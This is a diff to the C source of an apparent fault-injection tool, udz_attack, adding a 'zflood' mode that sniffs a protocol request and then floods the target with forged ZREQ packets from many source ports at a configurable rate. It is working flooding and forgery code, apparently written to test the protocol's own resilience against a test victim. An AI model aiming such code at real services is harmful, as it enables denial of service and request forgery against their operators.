@@ -20,6 +20,11 @@
  *       sends each a ZREQ for that region (window 2^32-1, data channel PORT), echoes every
  *       address challenge the owner sends those sources, and counts what reaches PORT until
  *       2 s pass without any. Against a long-lived registration (tests/fault/udz_victim).
+ *   udz_attack zflood --to IP --ports P,... [--sources N] [--foreign PORT] [--seconds S]
+ *                     [--rate R]
+ *       a ZREQ flood: sniffs a ZREQ as forge does, then sends R forged ZREQs a second for S
+ *       seconds from N fresh source ports in turn, each source's next reliable packet (every
+ *       one is taken), half naming data channel 0 and half PORT.
  * Ends with "udz_attack: sent N" (and the first error, if sending failed).
  */
 #include "udz_proto.h"
@@ -376,12 +381,97 @@ static int attack_reflect(const struct sockaddr_in *to, const int *ports, int np
     return 0;
 }
 
+/* A flood of forged ZREQs with a sniffed cookie and key: from N fresh source ports of its own,
+ * in turn, each source's next reliable packet (psn 1, 2, ...: every one is taken, none is a
+ * duplicate), at RATE per second for S seconds; half name data channel 0 (a channel the source
+ * never announced), half the foreign PORT. The owner's state per source is bounded (64
+ * transfers, then refusals), and what it answers is never larger than what came. */
+static int attack_zflood(const struct sockaddr_in *to, const int *ports, int nports,
+                         long sources, int foreign, double seconds, long rate)
+{
+    double t0, end;
+    struct sockaddr_in dst = *to;
+    uint8_t buf[UDZ_HDR_LEN + sizeof(udz_zreq_t)], junk[2048];
+    udz_hdr_t h;
+    udz_zreq_t q;
+    uint16_t port;
+    uint64_t *cookie;
+    uint32_t *psn;
+    long sent = 0, failed = 0, i;
+    int *fds;
+
+    fds    = calloc((size_t)sources, sizeof(*fds));
+    cookie = calloc((size_t)sources, sizeof(*cookie));
+    psn    = calloc((size_t)sources, sizeof(*psn));
+    if ((fds == NULL) || (cookie == NULL) || (psn == NULL)) {
+        perror("udz_attack: memory");
+        return 1;
+    }
+    if (forge_sniff(to, ports, nports, now() + 30, &h, &q, &port) != 0) {
+        printf("udz_attack: sent 0 (no ZREQ seen in 30 s)\n");
+        return 1;
+    }
+    dst.sin_port = htons(port);
+    for (i = 0; i < sources; ++i) {
+        fds[i]    = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
+        cookie[i] = rnd() | 1;
+        psn[i]    = 1;
+    }
+    t0  = now();
+    end = t0 + seconds;
+    while (now() < end) {
+        /* paced: at most rate per second, checked every 64 */
+        if ((sent + failed) > (long)((now() - t0) * (double)rate)) {
+            usleep(500);
+            continue;
+        }
+        for (i = 0; i < 64; ++i) {
+            long k = (sent + failed) % sources;
+            udz_hdr_t f = h;
+            udz_zreq_t r = q;
+
+            f.src_cookie = cookie[k];
+            f.psn        = psn[k];
+            f.ack        = 1;
+            f.flags      = 0;
+            r.xfer_id    = (uint32_t)rnd();
+            r.chan_id    = ((sent + failed) & 1) ? htons((uint16_t)foreign) : 0;
+            r.window     = 0xffffffffu;
+            memcpy(buf, &f, sizeof(f));
+            memcpy(buf + sizeof(f), &r, sizeof(r));
+            if ((fds[k] >= 0) && (sendto(fds[k], buf, sizeof(buf), 0,
+                                         (const struct sockaddr*)&dst, sizeof(dst)) > 0)) {
+                ++sent;
+                ++psn[k];
+            } else {
+                ++failed;
+            }
+            /* what the owner answers (challenges, refusals, acks) is read and dropped */
+            while (recv(fds[k], junk, sizeof(junk), MSG_DONTWAIT) > 0) {
+            }
+        }
+    }
+    for (i = 0; i < sources; ++i) {
+        if (fds[i] >= 0) {
+            close(fds[i]);
+        }
+    }
+    free(fds);
+    free(cookie);
+    free(psn);
+    printf("udz_attack: sent %ld forged ZREQs (wire version %u) in %.1f s from %ld sources to "
+           "port %u (%ld sends failed)\n", sent, h.version, seconds, sources, port, failed);
+    return 0;
+}
+
 static void usage(void)
 {
     fprintf(stderr, "usage: udz_attack flood --to IP --ports P,P,... [--count N] "
                     "[--seconds S] [--seed X]\n"
                     "       udz_attack forge|reflect --to IP --ports P,P,... [--sources N] "
-                    "[--foreign PORT] [--seconds S]\n");
+                    "[--foreign PORT] [--seconds S]\n"
+                    "       udz_attack zflood --to IP --ports P,P,... [--sources N] "
+                    "[--foreign PORT] [--seconds S] [--rate R]\n");
     exit(2);
 }
 
@@ -389,7 +479,7 @@ int main(int argc, char **argv)
 {
     struct sockaddr_in to;
     int have_to = 0, nports = 0, ports[256], i;
-    long count = 1000, sources = 1000;
+    long count = 1000, sources = 1000, rate = 10000;
     int foreign = 9;
     double seconds = 10;
     char *tok, *save;
@@ -415,6 +505,8 @@ int main(int argc, char **argv)
             sources = atol(argv[i + 1]);
         } else if (!strcmp(argv[i], "--foreign")) {
             foreign = atoi(argv[i + 1]);
+        } else if (!strcmp(argv[i], "--rate")) {
+            rate = atol(argv[i + 1]);
         } else if (!strcmp(argv[i], "--seed")) {
             rng_state = strtoull(argv[i + 1], NULL, 0) | 1;
         } else {
@@ -431,6 +523,10 @@ int main(int argc, char **argv)
     if (!strcmp(argv[1], "forge") && have_to && (nports > 0) && (foreign > 0) &&
         (foreign < 65536)) {
         return attack_forge(&to, ports, nports, sources, foreign, seconds);
+    }
+    if (!strcmp(argv[1], "zflood") && have_to && (nports > 0) && (foreign > 0) &&
+        (foreign < 65536) && (sources <= 4096) && (rate > 0) && (rate <= 1000000)) {
+        return attack_zflood(&to, ports, nports, sources, foreign, seconds, rate);
     }
     if (!strcmp(argv[1], "reflect") && have_to && (nports > 0) && (foreign > 0) &&
         (foreign < 65536) && (sources <= 1000)) {
